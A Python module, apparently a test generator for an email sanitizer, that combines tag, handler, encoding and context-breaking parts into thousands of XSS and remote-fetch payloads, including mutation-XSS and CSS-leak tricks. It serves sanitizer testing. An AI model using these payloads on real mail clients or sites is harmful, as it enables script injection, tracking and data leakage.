"""What mail may hold to reach out of the page that shows it: ways to fetch from elsewhere, ways to run a script.
Made by combining, so that there are many; `remote(base)` and `scripts()` give lists of str, each once."""
import base64
import html
import itertools

# {u} stands for the address: every element, attribute and rule known to fetch, follow or announce one.
FETCHES = """<img src="{u}">|<img src={u}>|<img srcset="{u} 1x, {u} 2x">|<img src=x srcset={u}>|<img lowsrc="{u}">|<img dynsrc="{u}">
<img longdesc="{u}" src="{u}">|<image src="{u}">|<image xlink:href="{u}">|<input type=image src="{u}">|<input type=image formaction="{u}">
<picture><source srcset="{u}"><img></picture>|<video src="{u}" autoplay></video>|<video poster="{u}"></video>|<video><source src="{u}"></video>
<video><track default src="{u}"></video>|<audio src="{u}" autoplay></audio>|<audio><source src="{u}"></audio>|<bgsound src="{u}">
<embed src="{u}">|<embed code="{u}">|<object data="{u}"></object>|<object codebase="{u}" classid="x"></object>|<object><param name=src value="{u}"></object>
<object type="text/x-scriptlet" data="{u}"></object>|<applet code="x" codebase="{u}"></applet>|<applet archive="{u}"></applet>
<iframe src="{u}"></iframe>|<iframe srcdoc="<img src='{u}'>"></iframe>|<frameset><frame src="{u}"></frameset>|<portal src="{u}"></portal>
<fencedframe src="{u}"></fencedframe>|<link rel=stylesheet href="{u}">|<link rel="alternate stylesheet" href="{u}">|<link rel=icon href="{u}">
<link rel=prefetch href="{u}">|<link rel=preload as=image href="{u}">|<link rel=modulepreload href="{u}">|<link rel=dns-prefetch href="{u}">
<link rel=preconnect href="{u}">|<link rel=prerender href="{u}">|<link rel=next href="{u}">|<link rel=manifest href="{u}">|<link rel=import href="{u}">
<link rel=apple-touch-icon href="{u}">|<link rel=pingback href="{u}">|<link rel=search href="{u}">|<link rel=preload as=image imagesrcset="{u} 1x">
<script src="{u}"></script>|<script type=module src="{u}"></script>|<script type=importmap>{{"imports":{{"a":"{u}"}}}}</script>
<script type=speculationrules>{{"prerender":[{{"source":"list","urls":["{u}"]}}]}}</script>|<svg><script href="{u}"/></svg>
<style>@import url({u});</style>|<style>@import "{u}";</style>|<style>body{{background:url({u})}}</style>|<style>@font-face{{font-family:f;src:url({u})}}*{{font-family:f}}</style>
<style>*{{cursor:url({u}),auto}}</style>|<style>li{{list-style:url({u})}}</style>|<style>p::before{{content:url({u})}}</style>|<style>*{{border-image:url({u})}}</style>
<style>*{{mask:url({u})}}</style>|<style>*{{filter:url({u}#f)}}</style>|<style>*{{shape-outside:url({u})}}</style>|<style>*{{background:image-set("{u}" 1x)}}</style>
<style>*{{background:-webkit-image-set(url({u}) 1x)}}</style>|<style>*{{background:cross-fade(url({u}),url({u}))}}</style>|<style>@namespace url({u});</style>
<style>input[value^="a"]{{background:url({u})}}</style>|<style>@document url({u}){{}}</style>|<style>*{{behavior:url({u})}}</style>|<style>*{{-moz-binding:url({u})}}</style>
<div style="background:url({u})">x</div>|<div style="background-image:url('{u}')">x</div>|<div style="list-style-image:url({u});display:list-item">x</div>
<div style="content:url({u})">x</div>|<div style="border-image-source:url({u})">x</div>|<div style="cursor:url({u}),auto">x</div>|<div style="b\\61ckground:u\\72l({u})">x</div>
<p style='background:u/**/rl("{u}")'>x</p>|<p style="background:url(&quot;{u}&quot;)">x</p>|<p style="--a:url({u});background:var(--a)">x</p>
<body background="{u}">|<table background="{u}"><tr><td background="{u}">x</table>|<th background={u}>|<tbody background={u}>|<hr background="{u}">
<meta http-equiv=refresh content="0;url={u}">|<meta http-equiv=refresh content="0; {u}">|<meta http-equiv=Link content="<{u}>;rel=stylesheet">
<meta http-equiv=set-cookie content="a=b">|<meta http-equiv=Content-Security-Policy content="default-src *; report-uri {u}">|<meta property=og:image content="{u}">
<base href="{u}"><img src=x>|<base target=_blank href="{u}">|<a href="{u}" ping="{u}">x</a>|<a href="{u}" download>x</a>|<a href="{u}" attributionsrc="{u}">x</a>
<img attributionsrc="{u}">|<area href="{u}" ping="{u}">|<map name=m><area shape=default href="{u}"></map><img usemap=#m>|<form action="{u}"><button autofocus>x</button></form>
<form><button formaction="{u}">x</button></form>|<isindex action="{u}">|<isindex type=image src="{u}">|<q cite="{u}">x</q>|<blockquote cite="{u}">x</blockquote>
<del cite="{u}">x</del>|<html manifest="{u}">|<head profile="{u}">|<body><layer src="{u}"></layer>|<ilayer src="{u}">|<xml src="{u}"></xml>|<xss style="x:url({u})">
<svg><image href="{u}"/></svg>|<svg><image xlink:href="{u}"/></svg>|<svg><use href="{u}#a"/></svg>|<svg><use xlink:href="{u}#a"/></svg>|<svg><feImage href="{u}"/></svg>
<svg><filter><feImage xlink:href="{u}"/></filter></svg>|<svg><style>@import url({u})</style></svg>|<svg><a href="{u}"><text>x</text></a></svg>|<svg><pattern href="{u}#p"/></svg>
<svg><rect fill="url({u}#a)"/></svg>|<svg><rect mask="url({u}#a)"/></svg>|<svg><rect clip-path="url({u}#a)"/></svg>|<svg><rect filter="url({u}#a)"/></svg>
<svg><path marker-start="url({u}#a)"/></svg>|<svg><foreignObject><img src="{u}"></foreignObject></svg>|<svg><set attributeName=href to="{u}"/><image/></svg>
<svg><animate attributeName=href values="{u}"/><image/></svg>|<svg><font-face-uri xlink:href="{u}"/></svg>|<svg><cursor xlink:href="{u}"/></svg>|<svg><tref xlink:href="{u}"/></svg>
<svg><linearGradient xlink:href="{u}#a"/></svg>|<svg><textPath href="{u}#a">x</textPath></svg>|<svg><mpath href="{u}#a"/></svg>|<svg xml:base="{u}"><image href=x /></svg>
<math><mglyph src="{u}"/></math>|<math href="{u}"><mi>x</mi></math>|<math><annotation-xml encoding="text/html"><img src="{u}"></annotation-xml></math>
<math xlink:href="{u}">x</math>|<?xml-stylesheet href="{u}"?>|<!DOCTYPE html SYSTEM "{u}">|<!DOCTYPE x [<!ENTITY e SYSTEM "{u}">]><x>&e;</x>|<!--[if IE]><img src="{u}"><![endif]-->
<noscript><img src="{u}"></noscript>|<noembed><img src="{u}"></noembed>|<template><img src="{u}"></template>|<textarea></textarea><img src="{u}">
<title></title><img src="{u}">|<v:fill src="{u}"/>|<v:imagedata src="{u}"/>|<o:OLEObject link="{u}"/>|<t:img src="{u}">|<img src="cid:a" alt="{u}">|<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><image href='{u}'/></svg>">
<table><td><img src="{u}"|<img src="{u}"/onload=x|<select><option><img src="{u}"></select>|<marquee background="{u}">x</marquee>|<spacer src="{u}">|<img
src
=
"{u}"
>|{u}|<{u}>|[x]({u})|![x]({u})""".replace("\n<", "|<").replace("\n{", "|{").split("|")


def spelled(u):
    """An address in the spellings that browsers read as the same."""
    tail = u.split("://", 1)[1]
    return [u, "//" + tail, "http:\\\\" + tail, u.replace("http", "HtTp"), u.replace(":", "&#58;").replace("/", "&#x2f;"),
            "\t" + u.replace("ht", "h\tt", 1), html.escape(u).replace("h", "&#104;", 1)]


def remote(base):
    """Every shape with the plain address, and each with one more spelling in turn."""
    out = []
    for i, shape in enumerate(FETCHES):
        ways = spelled(f"{base}/{i}")
        out.append(shape.format(u=ways[0]))
        out.append(shape.format(u=ways[1 + i % (len(ways) - 1)]))
    return list(dict.fromkeys(out))


TAGS = """a abbr address area article audio b base bdi bdo bgsound blockquote body br button canvas center col custom-x details dialog div embed
fieldset font form frame frameset h1 head hr html i iframe image img input isindex keygen label legend li link marquee math meta object ol
option p param plaintext portal pre q s script select slot span strong style sub svg table tbody td template textarea th title tr track u ul
var video wbr x xmp""".split()
HANDLERS = """onload onerror onfocus onblur onclick onmouseover onmouseenter onpointerenter ontoggle onbeforetoggle onanimationstart
onanimationend ontransitionend onscroll onscrollend onresize onhashchange onpageshow onmessage onpopstate onbegin onend onstart onfinish
onplay oncanplay onloadstart ondurationchange oncuechange onwheel onsubmit oninvalid oninput onselect onbeforematch onsecuritypolicyviolation
oncontentvisibilityautostatechange onbeforeunload onwebkitanimationstart""".split()
RUNS = ["alert(1)", "alert`1`", "top['al'+'ert'](1)", "(alert)(1)", "&#97;lert(1)", "\\u0061lert(1)", "setTimeout('alert(1)')"]
WHOLE = """<script>alert(1)</script>|<SCRIPT>alert(1)</SCRIPT>|<script\x0c>alert(1)</script>|<script/x>alert(1)</script>|<script>alert(1)//|<script>alert(1)<!--
<<script>alert(1)</script>|<scr<script>ipt>alert(1)</scr</script>ipt>|<script src=data:,alert(1)></script>|<script src="data:text/javascript,alert(1)"></script>
<a href="javascript:alert(1)" autofocus>x</a>|<a href="java&Tab;script:alert(1)">x</a>|<a href="&#1;javascript:alert(1)">x</a>|<a href=" javascript:alert(1)">x</a>
<a href="data:text/html,<script>alert(1)</script>">x</a>|<a href="vbscript:msgbox(1)">x</a>|<iframe src="javascript:alert(1)"></iframe>|<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>
<iframe src="data:text/html,<script>alert(1)</script>"></iframe>|<object data="javascript:alert(1)"></object>|<object data="data:text/html,<script>alert(1)</script>"></object>
<embed src="javascript:alert(1)">|<embed src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>">|<form action="javascript:alert(1)"><input type=submit></form>
<button formaction="javascript:alert(1)">x</button>|<meta http-equiv=refresh content="0;javascript:alert(1)">|<base href="javascript:alert(1)//">
<svg><script>alert(1)</script></svg>|<svg><script href="data:,alert(1)"/></svg>|<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>
<svg><animate xlink:href=#x attributeName=href values="javascript:alert(1)"/><a id=x><text>x</text></a></svg>|<svg><set attributeName=onload to=alert(1)></svg>
<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>|<math><mi xlink:href="javascript:alert(1)">x</mi></math>
<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">|<noscript><p title="</noscript><img src=x onerror=alert(1)>">|<style><style/><img src=x onerror=alert(1)></style>
<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>|<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>
<xmp><img title="</xmp><img src=x onerror=alert(1)>"></xmp>|<!--><img src=x onerror=alert(1)>-->|<!--<img title="--><img src=x onerror=alert(1)>">|<![CDATA[<img src=x onerror=alert(1)>]]>
<?x <img src=x onerror=alert(1)>?>|<div style="width:expression(alert(1))">x</div>|<style>*{{x:expression(alert(1))}}</style>|<link rel=stylesheet href="javascript:alert(1)">
<div style="behavior:url(#default#time2)" onbegin=alert(1)>|{{{{constructor.constructor('alert(1)')()}}}}|${{alert(1)}}|<%= alert(1) %>|javascript:alert(1)|';alert(1)//|\\";alert(1)//
</script><script>alert(1)</script>|</title><script>alert(1)</script>|</bdi></a><script>alert(1)</script>|</textarea><script>alert(1)</script>|</style><script>alert(1)</script>
+ADw-script+AD4-alert(1)+ADw-/script+AD4-|\xbcscript\xbealert(1)\xbc/script\xbe|\uff1cscript\uff1ealert(1)\uff1c/script\uff1e|%3Cscript%3Ealert(1)%3C/script%3E
\\u003cscript\\u003ealert(1)\\u003c/script\\u003e|&lt;script&gt;alert(1)&lt;/script&gt;|&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;|<scr\u200dipt>alert(1)</script>""" \
    .replace("\n", "|").replace("{{", "{").replace("}}", "}").split("|")
BREAKS = ["", '">', "'>", "-->", "</title>", "</textarea>", "</bdi></h2>", "]]>"]


def forms(tag, handler, run):
    """One handler on one tag, in the ways that filters are passed."""
    yield f"<{tag} src=x {handler}={run}>"
    yield f"<{tag.upper()} {handler.title()}=\"{run}\" autofocus tabindex=0 src=x style=animation:x>"
    yield f"<{tag}/src=x/{handler}='{run}'//"
    yield f"<{tag}\n\t{handler}\n=\n{run} src>x"
    yield html.escape(f"<{tag} src=x {handler}={run}>")


def scripts():
    out = [b + w for w in WHOLE for b in BREAKS]
    for i, (tag, handler) in enumerate(itertools.product(TAGS, HANDLERS)):
        ways = list(forms(tag, handler, RUNS[i % len(RUNS)]))
        out.append(BREAKS[i % len(BREAKS)] + ways[i % len(ways)])
        if i % 4 != 3:
            out.append(BREAKS[(i + 3) % len(BREAKS)] + ways[(i + 2) % len(ways)])
    for i, tag in enumerate(TAGS):
        out.extend(f"<{tag} {name}='javascript:{RUNS[(i + k) % len(RUNS)]}'>" for k, name in enumerate(
            ("href", "src", "action", "formaction", "data", "xlink:href", "poster", "background", "to", "values", "content", "srcdoc")))
    return list(dict.fromkeys(out))


def word(text):
    """An encoded word of RFC 2047."""
    return "=?utf-8?b?" + base64.b64encode(text.encode()).decode() + "?="


if __name__ == "__main__":
    print(len(remote("http://127.1.1.1:1")), len(scripts()))
